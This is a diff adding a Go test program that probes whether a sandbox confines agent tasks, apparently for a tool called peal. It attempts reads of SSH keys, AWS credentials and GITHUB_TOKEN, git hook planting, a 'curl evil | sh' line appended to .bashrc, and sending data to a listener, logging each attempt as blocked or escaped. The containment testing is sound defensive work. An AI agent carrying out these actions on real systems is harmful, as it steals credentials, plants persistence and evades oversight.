@@ -1,0 +1,184 @@
+// Command escape tries, from inside an agent call or a check, every way out
+// of a task that confinement must close, and the work a task legitimately
+// does, and writes one line per try to the file ESCAPE_OUT names:
+// "blocked NAME", "ESCAPED NAME: how", "ok NAME" or "FAILED NAME: why".
+// Tests read the file; what each try touches comes from its environment:
+//
+//	HOME               the home folder holding the planted secrets
+//	ESCAPE_LISTENER    host:port of a listener no call may reach
+//	ESCAPE_ALLOWED     host:port of a server the call may reach through the proxy
+//	ESCAPE_STATE       peal's state folder
+//	ESCAPE_MAIN        the main work tree (when the call works in a worktree)
+//	ESCAPE_OTHER       another task's worktree
+package main
+
+import (
+	"bufio"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"net/url"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"time"
+)
+
+var out *os.File
+
+func main() {
+	f, err := os.OpenFile(os.Getenv("ESCAPE_OUT"), os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
+	if err != nil {
+		fmt.Fprintln(os.Stderr, "escape: no report file:", err)
+		os.Exit(2)
+	}
+	out = f
+	defer f.Close()
+	home := os.Getenv("HOME")
+	who := "[" + os.Getenv("PEAL_PHASE") + " " + os.Getenv("PEAL_TASK_INDEX") + "] "
+
+	// What a task must never do.
+	escape(who+"write-home", func() error { return appendTo(filepath.Join(home, ".bashrc"), "curl evil | sh\n") })
+	escape(who+"read-ssh-key", func() error { return readOK(filepath.Join(home, ".ssh", "id_ed25519")) })
+	escape(who+"read-aws", func() error { return readOK(filepath.Join(home, ".aws", "credentials")) })
+	escape(who+"list-ssh", func() error { _, err := os.ReadDir(filepath.Join(home, ".ssh")); return err })
+	escape(who+"link-to-key", func() error {
+		link := fmt.Sprintf("key-link-%d", os.Getpid())
+		os.Remove(link)
+		if err := os.Symlink(filepath.Join(home, ".ssh", "id_ed25519"), link); err != nil {
+			return fmt.Errorf("no link made: %w", err) // cannot even try: counts as an escape
+		}
+		defer os.Remove(link)
+		return readOK(link)
+	})
+	hooks, common := gitPath("hooks"), gitCommonDir()
+	escape(who+"plant-hook", func() error { return appendTo(filepath.Join(hooks, "post-merge"), "#!/bin/sh\ntouch /tmp/pwned\n") })
+	escape(who+"write-git-config", func() error { return appendTo(filepath.Join(common, "config"), "[core]\n\thooksPath = /tmp\n") })
+	escape(who+"write-git-info", func() error { return appendTo(filepath.Join(common, "info", "attributes"), "* filter=evil\n") })
+	escape(who+"see-token", func() error {
+		if v := os.Getenv("GITHUB_TOKEN"); v != "" {
+			return nil
+		}
+		return fmt.Errorf("no GITHUB_TOKEN")
+	})
+	escape(who+"connect-listener", func() error {
+		c, err := net.DialTimeout("tcp", os.Getenv("ESCAPE_LISTENER"), 5*time.Second)
+		if err == nil {
+			c.Write([]byte("stolen\n"))
+			c.Close()
+		}
+		return err
+	})
+	escape(who+"proxy-to-listener", func() error { return viaProxy(os.Getenv("ESCAPE_LISTENER")) })
+	if d := os.Getenv("ESCAPE_STATE"); d != "" {
+		escape(who+"write-state", func() error { return appendTo(filepath.Join(d, "state.json"), "{}") })
+	}
+	if d := os.Getenv("ESCAPE_MAIN"); d != "" {
+		escape(who+"write-main-tree", func() error { return appendTo(filepath.Join(d, "from-a-worktree.txt"), "x") })
+	}
+	if d := os.Getenv("ESCAPE_OTHER"); d != "" {
+		escape(who+"write-other-worktree", func() error { return appendTo(filepath.Join(d, "from-another-task.txt"), "x") })
+	}
+
+	// What a task does.
+	work(who+"write-tree", func() error { return os.WriteFile(fmt.Sprintf("work-%s-%d.txt", os.Getenv("PEAL_PHASE"), os.Getpid()), []byte("x\n"), 0o644) })
+	work(who+"write-new-folder", func() error { return os.MkdirAll(filepath.Join("new-folder", "deeper"), 0o755) })
+	work(who+"write-temp", func() error {
+		f, err := os.CreateTemp("", "work-")
+		if err == nil {
+			f.Close()
+			os.Remove(f.Name())
+		}
+		return err
+	})
+	work(who+"git-status", func() error { return exec.Command("git", "status", "--porcelain").Run() })
+	work(who+"git-diff", func() error { return exec.Command("git", "diff", "HEAD").Run() })
+	if a := os.Getenv("ESCAPE_ALLOWED"); a != "" {
+		work(who+"proxy-to-allowed", func() error { return viaProxy(a) })
+	}
+}
+
+// escape runs a try that must fail.
+func escape(name string, try func() error) {
+	if err := try(); err != nil {
+		fmt.Fprintf(out, "blocked %s: %s\n", name, oneLine(err))
+		return
+	}
+	fmt.Fprintf(out, "ESCAPED %s\n", name)
+}
+
+// work runs a try that must succeed.
+func work(name string, try func() error) {
+	if err := try(); err != nil {
+		fmt.Fprintf(out, "FAILED %s: %s\n", name, oneLine(err))
+		return
+	}
+	fmt.Fprintf(out, "ok %s\n", name)
+}
+
+func oneLine(err error) string { return strings.ReplaceAll(err.Error(), "\n", " ") }
+
+func appendTo(path, text string) error {
+	os.MkdirAll(filepath.Dir(path), 0o755) // a repository made without git's template has no hooks folder
+	f, err := os.OpenFile(path, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o755)
+	if err != nil {
+		return err
+	}
+	if _, err := f.WriteString(text); err != nil {
+		f.Close()
+		return err
+	}
+	return f.Close()
+}
+
+func readOK(path string) error {
+	data, err := os.ReadFile(path)
+	if err == nil && len(data) == 0 {
+		return fmt.Errorf("empty")
+	}
+	return err
+}
+
+// gitPath and gitCommonDir ask git where the repository keeps its files:
+// a worktree's .git is a file.
+func gitPath(name string) string {
+	o, err := exec.Command("git", "rev-parse", "--path-format=absolute", "--git-path", name).Output()
+	if err != nil {
+		return filepath.Join(".git", name)
+	}
+	return strings.TrimSpace(string(o))
+}
+
+func gitCommonDir() string {
+	o, err := exec.Command("git", "rev-parse", "--path-format=absolute", "--git-common-dir").Output()
+	if err != nil {
+		return ".git"
+	}
+	return strings.TrimSpace(string(o))
+}
+
+// viaProxy asks the proxy the call was given (HTTP_PROXY) for a plain
+// HTTP GET of hostport; nil when the answer is 200.
+func viaProxy(hostport string) error {
+	p := os.Getenv("HTTP_PROXY")
+	if p == "" {
+		return fmt.Errorf("no proxy given")
+	}
+	pu, err := url.Parse(p)
+	if err != nil {
+		return err
+	}
+	client := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{Proxy: http.ProxyURL(pu)}}
+	res, err := client.Get("http://" + hostport + "/")
+	if err != nil {
+		return err
+	}
+	defer res.Body.Close()
+	body, _ := io.ReadAll(bufio.NewReader(io.LimitReader(res.Body, 512)))
+	if res.StatusCode != http.StatusOK {
+		return fmt.Errorf("%s: %s", res.Status, strings.TrimSpace(string(body)))
+	}
+	return nil
+}
